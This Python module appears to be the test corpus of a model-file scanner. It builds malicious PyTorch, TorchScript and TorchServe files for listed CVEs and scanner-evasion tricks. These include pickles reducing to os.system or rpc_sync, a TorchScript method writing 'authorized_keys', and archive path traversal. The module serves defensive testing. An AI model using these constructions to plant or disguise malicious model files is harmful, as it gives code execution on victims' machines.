"""PyTorch's files, TorchScript, TorchServe."""

from __future__ import annotations

import model_files
import packed_files
import picklebytes as p

from attacks.attack import EVIL, Attack

_SCRIPT = "archive/code/__torch__/m.py"


def _scripted(source: str) -> bytes:
    return model_files.pytorch(b"\x80\x02}.", extra={_SCRIPT: source.encode(), "archive/constants.pkl": b"\x80\x02)."})


def _method(body: str) -> bytes:
    return _scripted(f"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    {body}\n    return x\n")


_SIZES = model_files.STATE.replace(b"cpuK\x03tQ", b"cpuJ\xff\xff\xff\x7ftQ")

ATTACKS: tuple[Attack, ...] = (
    Attack(
        "CVE-2025-32434",
        "torch.load with weights_only loaded TorchScript, whose code writes and reads files",
        lambda: ("model.pt", _method('torch.save(x, "authorized_keys")')),
        "torchscript-reaches-out",
    ),
    Attack(
        "CVE-2025-32434 (tar)",
        "torch.load with weights_only unpickled the oldest form, a tar archive, without restriction",
        lambda: ("model.pt", packed_files.pytorch_tar(EVIL)),
        "pickle-execute",
    ),
    Attack(
        "CVE-2026-24747",
        "the restricted unpickler applied SETITEM to what is no dictionary, and believed the sizes of storages",
        lambda: ("model.pt", model_files.pytorch(p.PROTO2 + model_files.STATE[9:-2] + b"K\x00K\x01s.")),
        "pickle-unreviewed-use",
        outcome="unverified",
    ),
    Attack(
        "CVE-2026-24747 (sizes)",
        "a storage that claims more numbers than its record holds",
        lambda: ("model.pt", model_files.pytorch(_SIZES)),
        "pytorch-storage-size",
        outcome="incomplete",
    ),
    Attack(
        "CVE-2022-45907",
        "torch.jit.annotations evaluates the text of a type",
        lambda: ("model.pkl", p.reduce_stack("torch.jit.annotations", "parse_type_line")),
        "pickle-execute",
    ),
    Attack(
        "CVE-2024-5480",
        "RPC calls any function on another machine",
        lambda: ("model.pkl", p.reduce_stack("torch.distributed.rpc", "rpc_sync")),
        "pickle-execute",
    ),
    Attack(
        "CVE-2024-48063",
        "a remote module is unpickled by the other machine",
        lambda: ("model.pt", _method('rpc_sync("worker", f, (x,))')),
        "torchscript-reaches-out",
    ),
    Attack(
        "CVE-2026-1839",
        "transformers' trainer unpickled the state of the random numbers in a checkpoint",
        lambda: ("rng_state.pth", model_files.pytorch(EVIL)),
        "pickle-execute",
    ),
    Attack(
        "CVE-2024-3568",
        "transformers unpickled extra data of a TensorFlow checkpoint",
        lambda: ("extra_data.pickle", EVIL),
        "pickle-execute",
    ),
    Attack(
        "CVE-2023-48299",
        "TorchServe's archives may name members that climb out",
        lambda: ("model.mar", packed_files.served(extra={"../../handler.py": b"pass\n"})),
        "archive-path-escapes",
    ),
    Attack(
        "TorchScript's constants",
        "constants.pkl and other records are unpickled too",
        lambda: ("model.pt", model_files.pytorch(extra={"archive/constants.pkl": EVIL})),
        "pickle-execute",
    ),
    Attack(
        "a record in capital letters",
        "PyTorch's reader of archives finds DATA.PKL for data.pkl",
        lambda: ("model.pt", model_files.archive({"archive/DATA.PKL": EVIL, "archive/version": b"3"})),
        "pickle-execute",
    ),
    Attack(
        "a record twice",
        "PyTorch loads the last of two records, Python's zipfile another",
        lambda: (
            "model.pt",
            model_files.archive([("a/data.pkl", model_files.STATE), ("a/data.pkl", EVIL), ("a/version", b"3")]),
        ),
        "pickle-execute",
    ),
    Attack(
        "five pickles",
        "an older PyTorch file holds five pickles; a scanner that stops at the first sees a number",
        lambda: ("model.pt", model_files.pytorch_legacy(EVIL)),
        "pickle-execute",
    ),
    Attack(
        "_load_from_bytes",
        "a whole PyTorch stream in the bytes of a pickled tensor",
        lambda: ("model.pkl", p.nested_torch("os", "system")),
        "pickle-execute",
    ),
)
